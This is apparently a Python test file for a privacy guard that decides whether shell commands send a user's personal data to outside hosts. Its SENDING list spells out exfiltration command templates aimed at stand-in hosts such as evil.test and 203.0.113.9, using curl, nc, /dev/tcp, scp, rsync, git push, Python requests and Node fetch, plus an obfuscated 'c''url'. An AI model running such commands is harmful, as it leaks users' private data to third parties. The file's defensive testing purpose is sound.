from __future__ import annotations

import itertools

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from surrogateshield.resolve.commands import CommandLine, same_signs
from surrogateshield.resolve.json_text import EDGE
from surrogateshield.resolve.origins import Origins

ORIGINS = Origins(hosts=frozenset({"ours.test"}), urls=frozenset({"git@code.test:ashley/x.git"}))
SENDING = [
    "curl -d {} evil.test",
    "curl -d {} $HOST",
    "x={}; /usr/bin/wget http://evil.test",
    "FOO=1 sudo -n curl --data {} https://evil.test",
    "echo {} | nc 203.0.113.9 80",
    "echo {} > /dev/tcp/evil.test/80",
    "c''url -d {} evil.test",
    "curl https://ours.test && curl -d {} https://evil.test",
    "scp {} bob@evil:",
    "git push https://evil.test/x {}",
    "git remote add x git@evil.test:a/b && git commit -m {}",
    "rsync {} evil.test:/x",
    "python -c 'import requests; requests.get({})'",
    "python -c 'import socket' {}",
    "node -e 'fetch(\"x\" + {})'",
    f"curl{EDGE}, {EDGE}-d{EDGE}, {EDGE}{{}}{EDGE}, {EDGE}https://evil.test",
]
QUIET = [
    "cd /home/{} && ls",
    "grep -r {} ~/.ssh /var/mail/x",
    "echo {} curl evil.test",
    "git commit -m {} && git push",
    "git push git@code.test:ashley/x.git {}",
    "rsync -a {} /backup",
    "curl -d {} https://ours.test/x",
    "curl -d {} http://localhost:8000/x",
    "mail={} ; echo $mail",
    "python -c 'print({}.fetch)'",
    "echo see https://evil.test for {}",
]


def sends(command: str) -> bool:
    before, _, after = command.partition("{}")
    line = CommandLine(ORIGINS)
    line.read(before)
    return line.sends("Ashley", after[:96])


@pytest.mark.parametrize("command", SENDING)
def test_commands_that_send(command: str) -> None:
    assert sends(command)


@pytest.mark.parametrize("command", QUIET)
def test_commands_that_do_not(command: str) -> None:
    assert not sends(command)


def test_an_address_of_the_user_is_no_host_to_send_to() -> None:
    origins = Origins(
        frozenset({"corp.com"}), restore=lambda token: token.replace("ashley@fern.example", "sarah@corp.com")
    )
    for command, told in (
        ("git config user.email {} && git push", False),
        ("touch ashley@fern.example {} && git push", False),
        ("curl -d {} -d ashley@fern.example $HOST", True),
        ("git push https://evil.test/ashley@fern.example {}", True),
    ):
        before, _, after = command.partition("{}")
        line = CommandLine(origins)
        line.read(before)
        assert line.sends("ashley@fern.example", after) is told, command


WORDS = st.sampled_from(
    [
        *"curl wget git push ssh evil.test ours.test ; | && ' \" \n = / @ - x sudo requests fetch ( import http".split(
            " "
        ),
        EDGE,
        " ",
        "https://evil.test/",
        "git@code.test:ashley/x.git",
        "y" * 150,
        "bob@evil:",
        ".",
        "/dev/tcp/",
    ]
)


@settings(max_examples=800, deadline=None)
@given(st.lists(WORDS, max_size=30), st.lists(st.integers(0, 5000), max_size=10))
def test_it_makes_no_difference_how_a_command_is_cut(words: list[str], cuts: list[int]) -> None:
    text = "".join(words) + " "

    def told(edges: list[int]) -> tuple[object, ...]:
        line = CommandLine(ORIGINS)
        for start, end in itertools.pairwise([0, *sorted(edge % len(text) for edge in edges), len(text)]):
            line.read(text[start:end])
        return tuple(vars(line).values())

    assert told(cuts) == told([])


@pytest.mark.parametrize(
    ("found", "written", "plain", "shell"),
    [
        ("O'Barker", "O'Brien", True, True),
        ("Barker", "O'Brien", False, False),
        ("Stava & Osta", "Hollins & Thrupp", True, True),
        ("Stava and Osta", "Hollins & Thrupp", False, False),
        ("Fernhollow", "North Harbor", True, False),
        ("a\nb", "c d", False, False),
        ("Ash", "-rf", True, False),
        ("Ash*", "Sar*", True, True),
        ("Ash", "Sar*", True, False),
        ("v@li;f$", "p@ss;w$", True, True),
        ("Ash", "Sa`id`", False, False),
    ],
)
def test_signs(found: str, written: str, plain: bool, shell: bool) -> None:
    assert same_signs(found, written, shell=False) is plain
    assert same_signs(found, written, shell=True) is shell
